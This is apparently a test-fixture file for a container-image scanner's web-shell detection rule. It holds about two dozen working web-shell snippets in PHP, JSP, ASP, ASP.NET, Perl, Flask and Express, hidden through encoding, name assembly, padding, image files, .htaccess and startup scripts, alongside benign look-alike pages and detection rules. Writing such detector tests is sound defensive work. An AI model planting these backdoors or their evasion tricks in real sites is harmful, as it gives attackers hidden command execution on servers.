import { base64, type ImageCase, image, layer, starts } from './image-case.ts';

const APACHE = { Cmd: ['apache2-foreground'] };
const WEB = 'var/www/html/';

function shell(
  name: string,
  path: string,
  text: string,
  severity: ImageCase['severity'] = 'critical',
): ImageCase {
  return {
    name: `web shell: ${name}`,
    spec: image({ [path]: text }, APACHE),
    rule: 'web-shell/shell',
    severity,
  };
}

const wrapped = (code: string, times: number): string =>
  times === 0 ? code : wrapped(`eval(base64_decode('${base64(code)}'));`, times - 1);

/** Pages that run what a request says, hidden in ways that their detector was not written for. All inert texts. */
export const WEB_SHELLS: readonly ImageCase[] = [
  shell('one line', `${WEB}uploads/a.php`, '<?php @eval($_POST["k"]);'),
  shell('short tags', `${WEB}a.php`, '<html><?=`$_GET[0]`?></html>'),
  shell(
    'behind a login',
    `${WEB}wp-content/plugins/seo/seo.php`,
    '<?php\nif (md5($_COOKIE["p"] ?? "") !== "5f4dcc3b5aa765d61d8327deb882cf99") { http_response_code(404); exit; }\n$job = $_COOKIE["j"];\necho shell_exec(base64_decode($job));\n',
  ),
  shell(
    'a method',
    `${WEB}lib/Task.php`,
    '<?php\nclass Task {\n  private string $line;\n  public function __construct(array $in) { $this->line = $in["line"]; }\n  public function run(): string { return (string) shell_exec($this->line); }\n}\necho (new Task(["line" => $_REQUEST["l"]]))->run();\n',
  ),
  shell(
    'a name from pieces',
    `${WEB}a.php`,
    '<?php $p = array("pass", "thr", "u"); $n = join("", $p); $n($_SERVER["HTTP_X_TOKEN"]);',
  ),
  shell(
    'a name from a table',
    `${WEB}a.php`,
    '<?php $t = "_eaxbjsvtnrm"; $n = $t[2].$t[6].$t[6].$t[1].$t[10].$t[8]; @$n($_REQUEST["q"]);',
  ),
  shell('decoded three times', `${WEB}a.php`, `<?php ${wrapped('system($_GET["c"]);', 3)}`),
  shell(
    'rot13 and base64',
    `${WEB}a.php`,
    `<?php eval(str_rot13(base64_decode('${base64('flfgrz($_TRG["p"]);')}')));`,
  ),
  shell(
    'a callback',
    `${WEB}a.php`,
    '<?php $d = [$_POST["x"]]; uasort($d, "str" . "len"); array_walk($d, "assert");',
  ),
  shell(
    'any variable',
    `${WEB}a.php`,
    '<?php foreach (array("_GET", "_POST") as $m) { foreach ($$m as $k => $v) { $$k = $v; } } extract($_GET); $run($what);',
  ),
  shell(
    'a tail of an honest page',
    `${WEB}index.php`,
    `<?php\n${'// licence text\n'.repeat(200)}require "wp-blog-header.php";\n${' '.repeat(300)}if (isset($_POST["wp_nonce_x"])) { $z = $_POST["wp_nonce_x"]; eval($z); }\n`,
  ),
  shell('in a picture', `${WEB}img/logo.png`, '\u0089PNG\r\n\n<?php passthru($_POST["c"]); ?>'),
  shell(
    'in .htaccess',
    `${WEB}.htaccess`,
    '<Files ".htaccess">\nSetHandler application/x-httpd-php\n</Files>\n# <?php system($_GET["c"]); ?>\n',
  ),
  shell(
    'JSP',
    'usr/local/tomcat/webapps/ROOT/s.jsp',
    '<%@page import="java.util.*"%>\n<%\nString[] a = request.getParameterValues("a");\nList<String> l = new ArrayList<String>(Arrays.asList(a));\nnew ProcessBuilder(a).start();\n%>',
  ),
  shell(
    'JSP with a helper',
    'usr/local/tomcat/webapps/ROOT/s.jsp',
    '<%!\nprivate java.io.InputStream go(String line) throws Exception {\n  Runtime env = Runtime.getRuntime();\n  return env.exec(new String[] {"/bin/bash", "-c", line}).getInputStream();\n}\n%><% if ("k".equals(request.getParameter("k"))) { go(new String(java.util.Base64.getDecoder().decode(request.getHeader("X-L")))); } %>',
  ),
  shell(
    'ASP',
    'srv/wwwroot/a.asp',
    '<%\nOn Error Resume Next\nDim v : v = Request.Form("v")\nIf v <> "" Then\n  ExecuteGlobal v\nEnd If\n%>',
  ),
  shell(
    'ASP.NET',
    'srv/wwwroot/a.aspx',
    '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n  var info = new System.Diagnostics.ProcessStartInfo("/bin/sh", "-c " + Request.Form["c"]);\n  System.Diagnostics.Process.Start(info);\n}\n</script>',
  ),
  shell(
    'Perl CGI',
    'usr/lib/cgi-bin/status.pl',
    '#!/usr/bin/perl\nuse CGI qw(:standard);\nmy $what = param("w");\nprint header("text/plain");\nprint qx{$what 2>&1};\n',
  ),
  {
    name: 'web shell: Flask',
    spec: starts(
      '#!/usr/bin/env python3\nimport subprocess\nfrom flask import Flask, request as r, request\napp = Flask("x")\n\n@app.post("/hook")\ndef hook():\n    body = request.get_json()\n    line = body["line"]\n    return subprocess.getoutput(line)\n\napp.run("0.0.0.0", 80)',
    ),
    rule: 'web-shell/shell',
    severity: 'high',
  },
  {
    name: 'web shell: Express',
    spec: image(
      {
        'app/server.js':
          'import { execFile } from "node:child_process";\nimport express from "express";\nconst app = express();\napp.post("/job", (req, res) => {\n  const line = Buffer.from(String(req.headers["x-job"]), "base64").toString();\n  execFile("/bin/sh", ["-c", line], (_e, out) => res.send(out));\n});\napp.listen(80);\n',
      },
      { Cmd: ['node', '/app/server.js'] },
    ),
    rule: 'web-shell/shell',
    severity: 'high',
  },
  {
    name: 'web shell: written at start',
    spec: starts(
      `echo ${base64('<?php eval($_REQUEST["x"]); ?>')} | base64 -d > /var/www/html/.cache.php\nexec apache2-foreground`,
    ),
    rule: 'web-shell/shell',
    severity: 'critical',
  },
  {
    name: 'web shell: a here-document',
    spec: starts(
      "cat > /usr/share/nginx/html/h.php <<'EOF'\n<?php passthru($_GET['c']); ?>\nEOF\nexec php-fpm",
    ),
    rule: 'web-shell/shell',
    severity: 'critical',
  },
  {
    name: 'web shell: deleted later',
    spec: image(
      [layer({ [`${WEB}x.php`]: '<?php eval($_POST[1]);' }), layer({ [`${WEB}.wh.x.php`]: '' })],
      APACHE,
    ),
    rule: 'web-shell/shell',
    severity: 'high',
  },
  {
    name: 'php handler: pictures',
    spec: image({ [`${WEB}uploads/.htaccess`]: 'AddType application/x-httpd-php .png .jpg\n' }, APACHE),
    rule: 'web-shell/php-handler',
  },
  {
    name: 'php handler: prepended',
    spec: image({ 'usr/local/etc/php/conf.d/00-x.ini': 'auto_prepend_file=/dev/shm/.s\n' }, APACHE),
    rule: 'web-shell/php-handler',
  },
];

function twin(name: string, files: Parameters<typeof image>[0]): ImageCase {
  return { name, spec: image(files, APACHE) };
}

/** Honest pages that work with requests and with commands, but never let one decide the other. */
export const WEB_TWINS: readonly ImageCase[] = [
  twin('a page that converts pictures', {
    [`${WEB}up.php`]:
      '<?php\n$name = basename($_FILES["f"]["name"]);\n$size = (int) ($_POST["size"] ?? 200);\nmove_uploaded_file($_FILES["f"]["tmp_name"], "/data/$name");\nexec(sprintf("convert %s -resize %dx%d out.png", escapeshellarg("/data/$name"), $size, $size), $out, $code);\n',
  }),
  twin('an admin page that dispatches', {
    [`${WEB}wp-admin/admin-post.php`]:
      '<?php\n$action = ! empty( $_REQUEST["action"] ) ? sanitize_text_field( $_REQUEST["action"] ) : "";\ndo_action( "admin_post_{$action}" );\nif ( method_exists( $this, "do_$action" ) ) { call_user_func( array( $this, "do_$action" ), $_POST ); }\n$tabs = array( "a" => "render_a" );\n$tab = isset( $tabs[ $_GET["tab"] ] ) ? $tabs[ $_GET["tab"] ] : "render_a";\n$tab();\n',
  }),
  twin('a page that shows the state of the server', {
    [`${WEB}status.php`]:
      '<?php $cmds = ["disk" => "df -h", "load" => "uptime"]; $k = $_GET["k"] ?? "disk"; if (isset($cmds[$k])) { echo "<pre>" . shell_exec($cmds[$k]) . "</pre>"; }',
  }),
  twin('a template engine in PHP', {
    [`${WEB}lib/Template.php`]:
      '<?php class Template { function render($name, $vars) { extract($vars); ob_start(); include $this->path . "/" . $name . ".php"; return ob_get_clean(); } function compile($src) { $code = preg_replace("/\\\\{\\\\$(\\\\w+)\\\\}/", "<?php echo \\\\$1; ?>", $src); eval("?>" . $code); } }\n$t = new Template; echo $t->render("home", ["title" => $_GET["title"]]);',
  }),
  twin('a class with an exec of its own', {
    [`${WEB}db.php`]:
      '<?php $db = new PDO($dsn); $db->exec($_POST["sql"]); $st = $db->query($_GET["q"]); curl_exec($ch); $r->system($_GET["x"]);',
  }),
  twin('documentation of web shells', {
    'usr/share/doc/modsec/README.md':
      'Block `<?php system($_GET["cmd"]); ?>` and `<% Runtime.getRuntime().exec(request.getParameter("c")) %>`.\n',
    'etc/modsecurity/crs/rules/web-shells-php.data': '<?php eval($_POST\n<title>Shell</title>\n',
    'opt/scan/rules.yaml':
      'rules:\n  - pattern: "eval($_POST"\n  - text: "<?php passthru($_REQUEST[1]); ?>"\n',
  }),
  twin('a tool that reports', {
    [`${WEB}cgi-bin/report.pl`]:
      '#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $id = $q->param("id") || 0;\nopen(my $f, "<", "/data/" . int($id)) or die;\nmy $up = `uptime`;\nprint $q->header, $up, <$f>;\n',
  }),
  twin('PHP-FPM as distributions set it up', {
    'etc/apache2/conf-available/php8.2-fpm.conf':
      '<FilesMatch ".+\\.ph(?:ar|p|tml)$">\n  SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n</FilesMatch>\n<FilesMatch ".+\\.phps$">\n  Require all denied\n</FilesMatch>\n',
    'etc/php/8.2/fpm/php.ini':
      '; Automatically add files before PHP document.\nauto_prepend_file =\nauto_append_file =\n',
    'etc/nginx/conf.d/default.conf':
      'server {\n location ~* \\.(jpg|png|css)$ { expires 30d; }\n location ~ \\.php$ {\n  fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n }\n}\n',
  }),
];
